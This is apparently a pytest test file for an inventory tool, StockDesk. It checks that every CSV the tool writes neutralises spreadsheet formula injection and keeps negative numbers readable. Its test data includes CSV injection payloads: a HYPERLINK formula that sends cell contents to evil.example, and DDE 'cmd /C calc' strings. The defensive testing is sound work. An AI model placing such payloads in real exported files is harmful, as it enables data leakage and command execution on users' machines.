"""Every CSV StockDesk writes, fed hostile names, opens in a spreadsheet without running a formula.

The writers: the items-table export, the import rejects file, `stockdesk reorder --out` and the report
CSVs. Each file is parsed back as a spreadsheet program would read it: a cell is run as a formula when,
after leading blanks, it starts with =, +, - or @ and is not simply a number.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from openpyxl import Workbook

from stockdesk.cli import main
from stockdesk.domain.cells import safe_cell
from stockdesk.reports.registry import run_report
from stockdesk.reports.spec import ReportOptions
from stockdesk.services.accounts import users
from stockdesk.services.catalogue import catalog, organisation
from stockdesk.services.catalogue.item_query import ItemFilter
from stockdesk.services.database import open_database
from stockdesk.services.exchange.import_files import write_rejects
from stockdesk.services.inventory import stock
from stockdesk.ui.export import write_items_csv

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
)
# Tab and carriage return cannot be part of an item name (refused as control characters), but a
# rejected import row carries them exactly as the file had them.
HOSTILE_RAW = (*HOSTILE, "\t=1+1", "\r=1+1")
_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def runs_as_formula(cell: str) -> bool:
    stripped = cell.lstrip("\t\r\n ")
    return stripped.startswith(("=", "+", "-", "@")) and not _NUMBER.fullmatch(stripped)


def read_as_spreadsheet(path: Path) -> list[list[str]]:
    """The cells as a spreadsheet imports them; none of them may become a formula."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";" if path.suffix == ".ssv" else ","))
    sheet = Workbook().active
    for r, row in enumerate(rows, start=1):
        for c, cell in enumerate(row, start=1):
            placed = sheet.cell(row=r, column=c, value=cell)
            assert placed.data_type != "f", f"{path.name} row {r} column {c} is a formula: {cell!r}"
            assert not runs_as_formula(cell), f"{path.name} row {r} column {c} would run: {cell!r}"
    return rows


@pytest.fixture
def hostile_shop(tmp_path):
    db = open_database(str(tmp_path / "shop.sqlite"))
    admin = users.create_first_admin(db.uow(), email="admin@example.com", password="admin-pass-1")
    store = organisation.create_store(db.uow(), admin, code="MAIN", name="=cmd store")
    for number, name in enumerate(HOSTILE):
        item = catalog.create_item(db.uow(), admin, sku=f"H{number}", name=name, reorder_point="5")
        stock.receive(db.uow(), admin, item_id=item.id, store_id=store.id, quantity="4", reference=name)
        stock.sell(db.uow(), admin, item_id=item.id, store_id=store.id, quantity="3", reference="@ref")
    yield db, admin, tmp_path
    db.close()


def test_the_cell_rule_neutralises_formulas_and_keeps_negative_numbers_readable():
    assert [safe_cell(text) for text in ("=1+1", "-2+3", "@x", "+1", "\t=1", "\rx")] == [
        "'=1+1", "'-2+3", "'@x", "'+1", "'\t=1", "'\rx"]
    assert [safe_cell(text) for text in ("-3", "-12.50", "Hammer", "")] == ["-3", "-12.50", "Hammer", ""]


def test_items_export_writes_hostile_names_as_text(hostile_shop):
    db, _admin, folder = hostile_shop
    out = folder / "items.csv"
    assert write_items_csv(db, ItemFilter(), out) == len(HOSTILE)
    rows = read_as_spreadsheet(out)
    assert sorted(row[1] for row in rows[1:]) == sorted("'" + name for name in HOSTILE)


def test_import_rejects_file_writes_the_raw_cells_as_text(tmp_path):
    out = tmp_path / "rejects.csv"
    write_rejects(out, ["sku", "name"], [((name, name), "=problem") for name in HOSTILE_RAW])
    rows = read_as_spreadsheet(out)
    assert [row[0] for row in rows[1:]] == ["'" + name for name in HOSTILE_RAW]
    assert {row[2] for row in rows[1:]} == {"'=problem"}


def test_reorder_command_writes_hostile_names_as_text(hostile_shop):
    db, _admin, folder = hostile_shop
    db.close()
    out = folder / "reorder.csv"
    assert main(["--db", str(folder / "shop.sqlite"), "reorder", "--all", "--out", str(out)]) == 0
    rows = read_as_spreadsheet(out)
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + name for name in HOSTILE}


@pytest.mark.parametrize("report", ["valuation", "low-stock", "movements"])
def test_report_csvs_write_hostile_names_as_text_and_negative_quantities_as_numbers(hostile_shop, report):
    db, admin, folder = hostile_shop
    out = folder / f"{report}.csv"
    run_report(db, admin, report, ReportOptions(store="MAIN"), out)
    rows = read_as_spreadsheet(out)
    cells = {cell for row in rows for cell in row}
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    if report == "movements":
        assert "-3.000" in cells  # the sales: a number a spreadsheet can sum, not "'-3.000"
        assert "'@ref" in cells
